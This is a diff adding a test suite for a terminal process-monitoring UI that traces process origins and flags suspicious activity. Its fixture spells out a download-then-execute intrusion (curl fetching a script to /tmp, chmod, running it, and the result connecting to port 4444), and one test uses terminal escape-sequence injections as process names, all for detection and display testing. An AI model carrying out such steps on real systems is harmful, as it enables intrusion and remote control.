@@ -1,0 +1,323 @@
+import { afterEach, describe, expect, test } from "vitest";
+import { Monitor } from "../../src/core/monitor.ts";
+import { BatchWriter } from "../../src/core/wire/encode.ts";
+import { textWidth } from "../../src/ui/text/width.ts";
+import { BASE_NS, graphFromText, WALL_NS } from "../core/fixture.ts";
+import { Screen, type ScreenOptions } from "./screen.tsx";
+
+const ATTACK = `
+  sshd listens :22
+  sshd:22 <- 203.0.113.9:51022
+  sshd > bash
+  bash > curl(-s http://cdn.x/i.sh -o /tmp/.x)
+  curl -> 198.51.100.7:80
+  curl writes /tmp/.x
+  curl exits 0
+  bash > chmod(+x /tmp/.x)
+  chmod chmods /tmp/.x
+  chmod exits 0
+  bash > /tmp/.x
+  .x -> 192.0.2.77:4444
+`;
+
+const open: Screen[] = [];
+afterEach(() => {
+  for (const screen of open.splice(0)) screen.close();
+});
+
+function show(monitor: Monitor, options: ScreenOptions = {}): Screen {
+  const screen = new Screen(monitor, options);
+  open.push(screen);
+  return screen;
+}
+
+const attack = (options: ScreenOptions = {}): Screen => show(graphFromText(ATTACK).monitor, options);
+
+/** Processes under pid 1, numbered from `from`; each call is one more batch. */
+function crowd(monitor: Monitor, from: number, count: number, argv = (pid: number) => [`worker-${pid}`]): void {
+  const writer = new BatchWriter();
+  const timeNs = BASE_NS + 60e9 + from * 1e6;
+  for (let pid = from; pid < from + count; pid++) {
+    writer.image({
+      timeNs,
+      pid,
+      startNs: BASE_NS + pid * 1e6,
+      exe: "/usr/bin/worker",
+      argv: argv(pid),
+      comm: "worker",
+      cwd: "/",
+      parentPid: 1,
+      parentStartNs: 1_000_000,
+      uid: 1000,
+    });
+  }
+  monitor.ingest(writer.finish(timeNs, WALL_NS + BigInt(timeNs - BASE_NS)));
+}
+
+const selectedRow = async (screen: Screen): Promise<string> => {
+  const lines = await screen.lines();
+  for (const [y, line] of lines.entries()) {
+    if ((await screen.background(5, y)) === 0x264f78) return line;
+  }
+  return "";
+};
+
+describe.each([
+  [80, 24],
+  [140, 45],
+])("at %ix%i", (columns, rows) => {
+  test("the tree shows who started whom, what they do, and what is suspicious", async () => {
+    const screen = attack({ columns, rows });
+    const text = await screen.text();
+    expect(text).toMatch(/LIVE/u);
+    expect(text).toMatch(/lost 0/u);
+    expect(text).toMatch(/sshd +⇐ :22/u);
+    expect(text).toMatch(/▲ +101 deploy .*└─ bash/u);
+    expect(text).toMatch(/▲ +104 deploy .*└─ \/tmp\/\.x .*⇒ 192\.0\.2\.77:4444|▲ +104 deploy .*\/tmp\/\.x +⚙ \/tmp\/\.x \+1/u);
+    expect(text).toMatch(/curl.*exit 0/u);
+  });
+
+  test("every line fits, and the frame has exactly the terminal's size", async () => {
+    const screen = attack({ columns, rows });
+    for (const keys of ["", "\r", "o", "2", "3", "4", "6", "?", "\x1b", "1", "/", "\x1b", ".", "\x1b"]) {
+      screen.press(keys);
+      const lines = await screen.lines();
+      expect(lines).toHaveLength(rows);
+      for (const line of lines) expect(textWidth(line)).toBeLessThanOrEqual(columns);
+      expect(lines[0], keys).toMatch(/LIVE/u);
+      expect(lines.at(-1), keys).toMatch(/help/u);
+    }
+  });
+
+  test("the reason is said in words when the row is selected", async () => {
+    const screen = attack({ columns, rows });
+    screen.press("G");
+    expect((await screen.lines()).at(-2)).toMatch(/▲ Download then execute: 104 \.x executed \/tmp\/\.x/u);
+  });
+
+  test("o tells how it came to be, from the login to the row", async () => {
+    const screen = attack({ columns, rows });
+    screen.press("G", "o");
+    const lines = await screen.lines();
+    const at = (text: string): number => lines.findIndex((line) => line.includes(text));
+    expect(at("Origin of 104 /tmp/.x")).toBeGreaterThan(0);
+    expect(at("203.0.113.9:51022")).toBeLessThan(at("100 sshd"));
+    expect(at("100 sshd")).toBeLessThan(at("102 curl -s"));
+    expect(at("102 curl -s")).toBeLessThan(at("THIS"));
+    expect(lines.join("\n")).toMatch(/evidence: 6 of 6 links observed, no gaps/u);
+  });
+});
+
+describe("moving", () => {
+  test("a typed burst moves as often as it was typed", async () => {
+    const screen = attack();
+    screen.press("jj");
+    expect(await selectedRow(screen)).toMatch(/ 101 /u);
+  });
+
+  test("the selection stays on its process and its line while others come and go", async () => {
+    const monitor = new Monitor();
+    crowd(monitor, 1000, 60);
+    const screen = show(monitor);
+    screen.press("j".repeat(30));
+    const before = await selectedRow(screen);
+    const line = (await screen.lines()).indexOf(before);
+    crowd(monitor, 500, 10);
+    screen.tick();
+    const after = await selectedRow(screen);
+    expect(/ (1\d\d\d) /u.exec(after)?.[1]).toBe(/ (1\d\d\d) /u.exec(before)?.[1]);
+    expect((await screen.lines()).indexOf(after)).toBe(line);
+  });
+
+  test("a paused screen keeps its rows while capture goes on", async () => {
+    const monitor = new Monitor();
+    crowd(monitor, 1000, 5);
+    const screen = show(monitor);
+    screen.press("Z");
+    crowd(monitor, 2000, 1);
+    screen.tick();
+    expect(await screen.text()).toMatch(/PAUSED/u);
+    expect(await screen.text()).not.toMatch(/worker-2000/u);
+    screen.press("Z");
+    expect(await screen.text()).toMatch(/worker-2000/u);
+  });
+
+  test("collapse hides what is below, and says how much", async () => {
+    const screen = attack();
+    screen.press("j", "j", "h");
+    expect(await screen.text()).toMatch(/▲ +101 .*bash +\(3 below\)/u);
+    expect(await screen.text()).not.toMatch(/chmod/u);
+    screen.press("l");
+    expect(await screen.text()).toMatch(/chmod/u);
+  });
+
+  test("sort keys order the list, again inverts", async () => {
+    const monitor = new Monitor();
+    crowd(monitor, 1000, 5);
+    const screen = show(monitor);
+    screen.press("t", "N");
+    const pids = (await screen.lines()).map((line) => /^ .? +(\d{3,}) /u.exec(line)?.[1]).filter(Boolean);
+    expect(pids).toEqual(["1004", "1003", "1002", "1001", "1000", ...pids.slice(5)]);
+    expect(await screen.text()).toMatch(/PID▾/u);
+  });
+});
+
+describe("searching", () => {
+  test("finds processes, connections and files, and Enter shows the process in the tree", async () => {
+    const screen = attack();
+    screen.press("/", "192.0.2");
+    expect(await screen.text()).toMatch(/conn +tcp 10\.0\.0\.4:\d+ -> 192\.0\.2\.77:4444/u);
+    screen.press("\r");
+    expect(await screen.text()).not.toMatch(/Search/u);
+    expect(await selectedRow(screen)).toMatch(/ 104 /u);
+  });
+
+  test("forgives a typing error", async () => {
+    const screen = attack();
+    screen.press("/", "chmdo");
+    expect(await screen.text()).toMatch(/proc +103 chmod/u);
+    expect(await screen.text()).toMatch(/similar/u);
+  });
+
+  test("opens what is above a hit that was collapsed", async () => {
+    const screen = attack();
+    screen.press("j", "h", "/", "pid:104", "\r");
+    expect(await selectedRow(screen)).toMatch(/ 104 .*\/tmp\/\.x/u);
+  });
+
+  test("^o in the search opens the origin of the hit itself", async () => {
+    const screen = attack();
+    screen.press("/", "4444", "\x0f");
+    expect(await screen.text()).toMatch(/Origin of .*192\.0\.2\.77:4444/u);
+  });
+
+  test("a paste is searched as one line", async () => {
+    const screen = attack();
+    screen.press("/", "\x1b[200~curl\n\x1b[201~");
+    expect(await screen.text()).toMatch(/proc +102 curl/u);
+  });
+
+  test("a filter keeps what matches and what is above it; Esc brings everything back", async () => {
+    const screen = attack();
+    screen.press("\\", "chmod", "\r");
+    expect(await screen.text()).toMatch(/filter: chmod/u);
+    expect(await screen.text()).toMatch(/100 root .*sshd/u);
+    expect(await screen.text()).not.toMatch(/102 deploy/u);
+    screen.press("\x1b");
+    expect(await screen.text()).toMatch(/102 deploy/u);
+  });
+
+  test("connections are filtered by port and user", async () => {
+    const screen = attack();
+    screen.press("2", "\\", "port:4444", "\r");
+    expect(await screen.text()).toMatch(/192\.0\.2\.77:4444/u);
+    expect(await screen.text()).not.toMatch(/203\.0\.113\.9/u);
+  });
+});
+
+describe("acting", () => {
+  test("F9 asks before it signals, naming pid and command, and tells a failure", async () => {
+    const screen = attack({ signal: () => "not permitted (EPERM)" });
+    screen.press("G", "\x1b[20~", "j", "\r");
+    expect(await screen.text()).toMatch(/Send SIGINT\?/u);
+    expect(await screen.text()).toMatch(/to process 104 \/tmp\/\.x/u);
+    expect(screen.signals).toEqual([]);
+    screen.press("y");
+    expect(screen.signals).toEqual(["SIGINT 104"]);
+    expect(await screen.text()).toMatch(/could not send SIGINT to 104 .x: not permitted/u);
+  });
+
+  test("read-only sends nothing", async () => {
+    const screen = attack({ readOnly: true });
+    screen.press("G", "\x0b");
+    expect(await screen.text()).toMatch(/--read-only/u);
+    screen.press("\r", "y");
+    expect(screen.signals).toEqual([]);
+  });
+
+  test("a process that has exited is not signalled", async () => {
+    const screen = attack();
+    screen.press("/", "pid:103", "\r", "\x1b[20~");
+    expect(await screen.text()).toMatch(/103 chmod has exited already/u);
+  });
+
+  test("y copies the row, Y its origin", async () => {
+    const screen = attack();
+    screen.press("G", "y", "Y");
+    expect(screen.copied[0]).toBe("104 deploy /tmp/.x");
+    expect(screen.copied[1]).toMatch(/^Origin of 104 \/tmp\/\.x\n[\s\S]*evidence: 6 of 6/u);
+  });
+
+  test.each(["q", "\x1b[21~", "\x03"])("%j quits", (key) => {
+    const screen = attack();
+    screen.press(key);
+    expect(screen.quit).toBe(true);
+  });
+});
+
+describe("terminals", () => {
+  test("a resize draws the new layout whole", async () => {
+    const screen = attack({ columns: 140, rows: 45 });
+    await screen.lines();
+    for (const [columns, rows] of [
+      [80, 24],
+      [50, 12],
+      [160, 50],
+      [100, 30],
+    ] as const) {
+      screen.resize(columns, rows);
+      const lines = await screen.lines();
+      expect(lines).toHaveLength(rows);
+      expect(lines[0]).toMatch(/LIVE/u);
+      expect(lines.at(-1)).toMatch(/\? help/u);
+      expect(lines.filter((line) => /PID/u.test(line))).toHaveLength(1);
+      expect(lines.filter((line) => /\/tmp\/\.x +⚙|└─ \/tmp\/\.x/u.test(line))).toHaveLength(1);
+    }
+  });
+
+  test("one that is too small says so, and recovers", async () => {
+    const screen = attack({ columns: 30, rows: 6 });
+    expect((await screen.lines())[0]).toBe("need 40x8, have 30x6");
+    screen.resize(80, 24);
+    expect(await screen.text()).toMatch(/sshd/u);
+  });
+
+  test("ASCII mode draws nothing but ASCII, NO_COLOR no colours", async () => {
+    const screen = attack({ theme: { ascii: true, depth: "none" } });
+    screen.press("o");
+    await screen.text();
+    expect(screen.bytes).not.toMatch(/[^\x00-\x7f]/u);
+    expect(screen.bytes).not.toMatch(/\x1b\[[\d;]*(?:[34]8;|3[0-7]|4[0-7])[\d;]*m/u);
+  });
+
+  test("limited capture is said, with cause and cure", async () => {
+    const limited = { why: "bpf(2) refused: EPERM", missed: "short-lived processes", fix: "start with sudo" };
+    const screen = attack({ limited, columns: 140 });
+    expect(await screen.text()).toMatch(/LIMITED +bpf\(2\) refused: EPERM: short-lived processes\. +start with sudo/u);
+  });
+
+  test("nothing is drawn when nothing changed", async () => {
+    const screen = attack();
+    await screen.lines();
+    const before = screen.bytes.length;
+    screen.press("k");
+    screen.tick();
+    await screen.lines();
+    // The chart of the header moves; nothing of the table does.
+    expect(screen.bytes.slice(before)).not.toMatch(/sshd|COMMAND/u);
+  });
+});
+
+test("names that attack the terminal are shown, not obeyed", async () => {
+  const monitor = new Monitor();
+  const hostile = ["evil\x1b]0;owned\x07\x1b[2J", "a\nb\rc", "\u202egnp.exe", "\u009b31m", "\x1b[?1049l", "日本\u200b語🙂"];
+  crowd(monitor, 1000, hostile.length, (pid) => [hostile[pid - 1000] ?? "", "argument\x1b[H"]);
+  const screen = show(monitor, { columns: 120, rows: 24 });
+  screen.press("/", "evil", "\x1b", "\r", "\x1b", "o", "\x1b");
+  const text = await screen.text();
+  expect(text).toMatch(/evil␛\]0;owned␇␛\[2J/u);
+  expect(text).toMatch(/a␊b␍c/u);
+  expect(text).toMatch(/�gnp\.exe/u);
+  const harmless = screen.bytes.replace(/\x1b\[[\d;]*[mABCDEFGHJK]|\x1b\[\?(?:25[hl]|2026[hl])/gu, "");
+  expect(harmless).not.toMatch(/[\x1b\x07\u0080-\u009f\u202a-\u202e\u200b]/u);
+});
